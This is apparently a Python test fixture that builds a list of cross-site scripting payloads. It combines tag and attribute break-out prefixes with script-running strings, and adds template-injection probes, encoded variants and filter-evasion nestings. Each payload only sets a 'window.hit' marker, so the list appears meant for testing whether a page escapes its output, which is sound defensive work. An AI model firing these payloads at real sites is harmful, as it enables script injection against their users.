"""Texts that would run a script where one is put unescaped into a page; each shows itself by setting ``window.hit``."""

_BREAKS = (
    "", '">', "'>", "</textarea>", "</title>", "</style>", "</script>", "-->", "]]>", "</option></select>", "</legend>",
    '"/><!--', "</pre></p>",
)  # fmt: skip
_RUNS = (
    "<script>window.hit=1</script>",
    "<ScRiPt>window.hit=1</sCrIpT>",
    "<img src=x onerror=window.hit=1>",
    "<img src=x onerror='window.hit=1'//",
    "<svg onload=window.hit=1>",
    "<svg/onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<body onload=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<details open ontoggle=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<object data=javascript:window.hit=1></object>",
    "<math><mtext><img src=x onerror=window.hit=1></mtext></math>",
    "<style>@import 'javascript:window.hit=1'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:window.hit=1'>",
)
_ALONE = (
    '" onmouseover="window.hit=1" x="', "' onfocus='window.hit=1' autofocus x='", "javascript:window.hit=1", "{{ 7*7 }}{% raw %}",
    "{{ ''.__class__.__mro__ }}", "${window.hit=1}", "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;script&#62;window.hit=1&#60;/script&#62;", "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
    "+ADw-script+AD4-window.hit=1+ADw-/script+AD4-", "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "<<script>window.hit=1//<</script>",
)  # fmt: skip

PAYLOADS = [*(start + run for start in _BREAKS for run in _RUNS), *_ALONE]
